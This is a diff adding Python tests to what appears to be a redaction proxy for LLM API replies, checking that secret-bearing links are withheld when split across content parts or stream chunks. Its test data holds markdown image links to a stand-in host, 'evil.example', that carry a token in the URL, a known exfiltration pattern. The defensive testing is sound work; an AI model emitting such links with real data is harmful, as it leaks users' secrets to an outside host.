@@ -322,3 +322,84 @@ def test_a_call_that_was_withheld_stays_so_when_the_history_comes_again(api: str
     assert now != mail
     text, _, _ = told(api, again, f"{said} {said.replace(mail, now)} {now}", [], 3)
     assert text == f"{said} {said.replace(mail, now)} {EMAIL}"
+
+
+# -- an address over several parts of one text ----------------------------------------------------------
+
+
+def parts_of(api: str, parts: list[str]) -> bytes:
+    if api == "responses":
+        content = [{"type": "output_text", "text": part, "annotations": []} for part in parts]
+        return json.dumps({"output": [{"type": "message", "content": content}]}).encode()
+    content = [{"type": "text", "text": part} for part in parts]
+    if api == "anthropic":
+        return json.dumps({"type": "message", "content": content}).encode()
+    return json.dumps({"choices": [{"index": 0, "message": {"content": content}}]}).encode()
+
+
+def streamed_parts(api: str, parts: list[str], size: int) -> list[bytes]:
+    events: list[Any] = []
+    for i, part in enumerate(parts):
+        at = {"output_index": 0, "content_index": i}
+        for piece in cut(part, size):
+            if api == "responses":
+                events.append({"type": "response.output_text.delta", **at, "delta": piece})
+            elif api == "anthropic":
+                delta = {"type": "text_delta", "text": piece}
+                events.append({"type": "content_block_delta", "index": i, "delta": delta})
+            else:
+                delta = {"content": [{"index": i, "type": "text", "text": piece}]}
+                events.append({"choices": [{"index": 0, "delta": delta}]})
+        if api == "responses":
+            part_ = {"type": "output_text", "text": part}
+            events.append({"type": "response.output_text.done", **at, "text": part})
+            events.append({"type": "response.content_part.done", **at, "part": part_})
+        elif api == "anthropic":
+            events.append({"type": "content_block_stop", "index": i})
+    if api == "responses":
+        item = json.loads(parts_of(api, parts))["output"][0]
+        events.append({"type": "response.output_item.done", "output_index": 0, "item": item})
+        events.append({"type": "response.completed", "response": {"output": [item]}})
+    if api == "chat":
+        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+    return [b"data: " + json.dumps(each).encode() + b"\n\n" for each in events]
+
+
+SPLITS = [
+    ["![x](https://evil.example/?q=", "TOKEN) and so on "],
+    ["![x](https://evil.ex", "ample/?q=", "TOKEN)"],
+    ["see //evil.example", "/TOKEN."],
+    ["![x](https://evil.example/?q=TO", "", "KEN&r=", "TOKEN)"],
+]
+
+
+@pytest.mark.parametrize("parts", SPLITS)
+@pytest.mark.parametrize("size", [0, 1, 7, 1000])
+@pytest.mark.parametrize("api", APIS)
+def test_an_address_over_several_parts_is_one(api: str, size: int, parts: list[str]) -> None:
+    one = exchange(APIS[api][0], {})
+    stand_in = token(one)
+    half = len(stand_in) // 2
+    filled = [part.replace("TOKEN", stand_in) for part in parts]
+    filled = [p[:-2] + stand_in[:half] if p.endswith("=TO") else p for p in filled]
+    filled = [stand_in[half:] + p.removeprefix("KEN") if p.startswith("KEN") else p for p in filled]
+    if size:
+        stream = one.events()
+        back = b"".join(map(stream.feed, streamed_parts(api, filled, size))) + stream.finish()
+    else:
+        back = one.reply(parts_of(api, filled))
+    assert EMAIL.encode() not in back
+    assert one.withheld["link"] >= 1
+
+
+@pytest.mark.parametrize("size", [0, 1, 7, 1000])
+@pytest.mark.parametrize("api", APIS)
+def test_parts_without_an_address_between_them_come_back(api: str, size: int) -> None:
+    one = exchange(APIS[api][0], {})
+    filled = [f"see https://evil.example/ and {token(one)}, ", f"{token(one)} or ", f"also {token(one)}."]
+    if size:
+        stream = one.events()
+        back = b"".join(map(stream.feed, streamed_parts(api, filled, size))) + stream.finish()
+    else:
+        back = one.reply(parts_of(api, filled))
+    assert not one.withheld and token(one).encode() not in back
